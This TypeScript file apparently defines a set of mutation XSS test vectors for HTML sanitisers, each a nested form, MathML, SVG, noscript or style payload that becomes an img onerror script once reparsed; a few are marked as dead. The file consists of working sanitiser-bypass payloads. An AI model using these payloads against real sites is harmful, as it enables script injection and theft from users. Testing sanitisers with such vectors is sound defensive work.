import { script, type Vectors } from './vector.ts'

const img = (url: string) => `<img src="x:" onerror="${script(url)}">`
/** The same as text inside of an element whose text is not HTML, and which `end` ends for another parser. */
const hidden = (end: string, url: string) => `<style>${end}${img(url)}</style>`
const twice = { twice: true }
const escaped = 'what stands in an attribute is written with its angle brackets escaped'
const text = 'text of foreign elements is written with its angle brackets escaped'

/**
 * HTML that means something else once it has been parsed, written and parsed again, as it is by whoever
 * takes a sanitiser's text and parses that (mutation XSS).
 */
export const mutations: Vectors = {
  'mutation-form': [(url) => `<form><math><mtext></form><form><mglyph>${hidden('</math>', url)}`, twice],
  'mutation-form-malign': [
    (url) => `<form><math><mi></form><form><malignmark>${hidden('</math>', url)}`,
    twice,
  ],
  'mutation-form-number': [(url) => `<form><math><mn></form><form><mglyph>${hidden('</math>', url)}`, twice],
  'mutation-form-operator': [
    (url) => `<form><math><mo></form><form><mglyph>${hidden('</math>', url)}`,
    twice,
  ],
  'mutation-form-string': [(url) => `<form><math><ms></form><form><mglyph>${hidden('</math>', url)}`, twice],
  'mutation-form-deep': [
    (url) => `<form><div><math><mtext></form><form><mglyph>${hidden('</math>', url)}`,
    twice,
  ],
  'mutation-form-svg': [
    (url) => `<form><math><mtext></form><form><mglyph><svg><mtext>${hidden('</svg></math>', url)}`,
    twice,
  ],
  'mutation-table': [(url) => `<math><mtext><table><mglyph>${hidden('</math>', url)}`, twice],
  'mutation-table-malign': [(url) => `<math><mi><table><malignmark>${hidden('</math>', url)}`, twice],
  'mutation-table-row': [(url) => `<math><mo><table><tr><mglyph>${hidden('</math>', url)}`, twice],
  'mutation-paragraph': [(url) => `<svg></p><style><a id="</style>${img(url).replaceAll('"', '')}">`, twice],
  'mutation-paragraph-math': [(url) => `<math></p><style><!--</style>${img(url)}--></style>`, twice],
  'mutation-break': [(url) => `<svg></br><style><!--</style>${img(url)}-->`, twice],
  'mutation-comment-style': [
    (url) =>
      `<math><mtext><table><mglyph><style><!--</style><i title="--&gt;${img(url).replaceAll('"', '').replaceAll('<', '&lt;').replaceAll('>', '&gt;')}">`,
    { ...twice, dead: escaped },
  ],
  'mutation-no-script': [
    (url) => `<p>x</p><noscript><style></noscript>${img(url)}</style></noscript>`,
    twice,
  ],
  'mutation-no-script-comment': [
    (url) => `<p>x</p><noscript><!--</noscript>${img(url)}--></noscript>`,
    twice,
  ],
  'mutation-no-script-frame': [
    (url) => `<p>x</p><noscript><iframe></noscript>${img(url)}</iframe></noscript>`,
    twice,
  ],
  'mutation-no-script-xmp': [
    (url) => `<p>x</p><noscript><xmp></noscript>${img(url)}</xmp></noscript>`,
    twice,
  ],
  'mutation-no-script-title': [
    (url) => `<p>x</p><noscript><i title="</noscript>${img(url).replaceAll('"', '')}"></noscript>`,
    { ...twice, dead: escaped },
  ],
  'mutation-references': [
    (url) => `<svg><style>${img(url).replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</style></svg>`,
    { ...twice, dead: text },
  ],
  'mutation-cdata': [(url) => `<svg><title><![CDATA[${img(url)}]]></title></svg>`, { ...twice, dead: text }],
  'mutation-back-ticks': [
    (url) => `<i title="\`\`onpointerdown=${script(url).replaceAll('`', "'")}" class="go">x</i>`,
    { ...twice, dead: 'Chromium takes no back ticks for quotes' },
  ],
}
